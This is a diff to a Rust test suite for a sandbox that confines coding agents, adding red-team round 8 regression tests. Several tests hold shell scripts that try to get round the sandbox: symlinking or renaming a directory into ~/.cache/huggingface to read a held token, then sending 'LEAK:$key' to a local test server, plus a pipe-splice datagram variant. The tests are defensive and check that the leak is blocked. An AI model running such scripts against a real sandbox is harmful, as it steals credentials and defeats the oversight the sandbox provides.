@@ -3127,11 +3127,11 @@ fn early_hold_taints(how: &str, ip: &str) {
     std::fs::write(f.ws.join("go"), "").unwrap();
     let o = wait_with_deadline(child, Duration::from_secs(120));
     let out = stdout(&o);
-    let read = if how == "inflight" {
+    let read = if how == "inflight" || how == "splicepass" {
         // Passed into the queue and closed; after the taint the socket that holds
         // it is shut (its receive is refused), which is the taint too.
         assert!(
-            out.contains("earlyhold pass: ok=1"),
+            out.contains("earlyhold pass: ok="),
             "the attack did not run\n{}",
             show(&o)
         );
@@ -3415,6 +3415,8 @@ fn isolated_files_without_a_cgroup_the_sandbox_runs_and_says_late_marks_cannot_f
 #[test]
 fn isolated_files_a_page_held_in_a_pipe_before_the_mark_taints_when_it_lands() {
     early_hold_taints("splice", "127.77.16.85");
+    // The pipe in flight only, in a 0-byte datagram (red team round 8).
+    early_hold_taints("splicepass", "127.77.16.86");
 }
 
 #[test]
@@ -4783,16 +4785,27 @@ fn an_object_put_at_the_end_of_a_secret_named_link_is_read_by_the_naming() {
 /// them: it taints. Every mode.
 #[test]
 fn a_directory_link_that_names_a_held_file_a_secret_taints() {
-    let ip = "127.77.41.99";
+    // `renamed`: made under a name that names nothing, then renamed into place
+    // (red team round 8, dir-link-renamed-into-place).
+    for (ip, how) in [("127.77.41.99", "direct"), ("127.77.41.98", "renamed")] {
+        dir_link_names_a_held_file(ip, how);
+    }
+}
+
+fn dir_link_names_a_held_file(ip: &str, how: &str) {
     let server = Tcp::new(ip, 443);
-    let f = Fixture::new("dirlink-held").with_attack();
+    let f = Fixture::new(&format!("dirlink-held-{how}")).with_attack();
+    let link = if how == "direct" {
+        "ln -s $PWD/hf ~/.cache/huggingface"
+    } else {
+        "ln -s $PWD/hf ~/.cache/tmplink && mv -T ~/.cache/tmplink ~/.cache/huggingface"
+    };
     std::fs::create_dir_all(f.home.join(".cache")).unwrap();
     let script = format!(
         "./attack tcp {ip} 443 before; mkdir hf && echo draft > hf/token && exec 3< hf/token && \
-         ln -s {ws}/hf ~/.cache/huggingface && touch named; \
+         {link} && touch named; \
          i=0; while [ ! -e go ] && [ $i -lt 3000 ]; do sleep 0.02; i=$((i+1)); done; \
-         key=$(cat <&3); echo \"held: $key\"; ./attack tcp {ip} 443 \"LEAK:$key\"",
-        ws = f.ws.display()
+         key=$(cat <&3); echo \"held: $key\"; ./attack tcp {ip} 443 \"LEAK:$key\""
     );
     let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
     cmd.env_remove("XDG_CACHE_HOME")
@@ -4817,20 +4830,51 @@ fn a_directory_link_that_names_a_held_file_a_secret_taints() {
     let o = wait_with_deadline(child, Duration::from_secs(120));
     let out = stdout(&o);
     let got = server.received();
-    assert!(named, "the agent could not make the link\n{}", show(&o));
+    assert!(named, "{how}: the agent could not make the link\n{}", show(&o));
     assert!(
         got.starts_with("before"),
-        "the channel did not work: {got:?}\n{}",
+        "{how}: the channel did not work: {got:?}\n{}",
         show(&o)
     );
     assert!(
         out.contains("held: hf_SECRETTOKEN"),
-        "the attack did not read the token\n{}",
+        "{how}: the attack did not read the token\n{}",
         show(&o)
     );
     assert!(
         !got.contains("LEAK:"),
-        "the token left the sandbox: {got:?}\n{}",
+        "{how}: the token left the sandbox: {got:?}\n{}",
         show(&o)
     );
+}
+
+/// Red team round 8 (refused-link-made-again): under a policy that never lets
+/// the agent read `~/.cache/huggingface/token`, a directory link that would name
+/// the agent's `ws/hf/token` so is refused, every time it is tried, made in place
+/// or renamed into place; no link is left.
+#[test]
+fn a_directory_link_refused_for_the_names_it_gives_is_refused_every_time() {
+    let f = Fixture::new("dirlink-refused").with_attack();
+    std::fs::create_dir_all(f.home.join(".cache")).unwrap();
+    let policy = f.ws.join("hf.claw");
+    std::fs::write(
+        &policy,
+        "use std::profiles::coding_agent;\npolicy mine extends coding_agent {\n    let hf_token = path [\"~/.cache/huggingface/token\"];\n    always { deny(EACCES) read hf_token; }\n}\n",
+    )
+    .unwrap();
+    let script = "mkdir hf && echo draft > hf/token && \
+         ln -s $PWD/hf ~/.cache/huggingface; echo first=$?; \
+         ln -s $PWD/hf ~/.cache/huggingface; echo second=$?; \
+         ln -s $PWD/hf ~/.cache/tmplink && mv -T ~/.cache/tmplink ~/.cache/huggingface; echo renamed=$?; \
+         if [ -L ~/.cache/huggingface ]; then echo linked; else echo no-link; fi";
+    let mut cmd = f.command(
+        &["--policy", policy.to_str().unwrap()],
+        &["/bin/sh", "-c", script],
+    );
+    cmd.env_remove("XDG_CACHE_HOME");
+    let o = run_with_deadline(cmd, Duration::from_secs(180));
+    let out = stdout(&o);
+    for step in ["first=1", "second=1", "renamed=1", "no-link"] {
+        assert!(out.contains(step), "expected {step}\n{}", show(&o));
+    }
 }
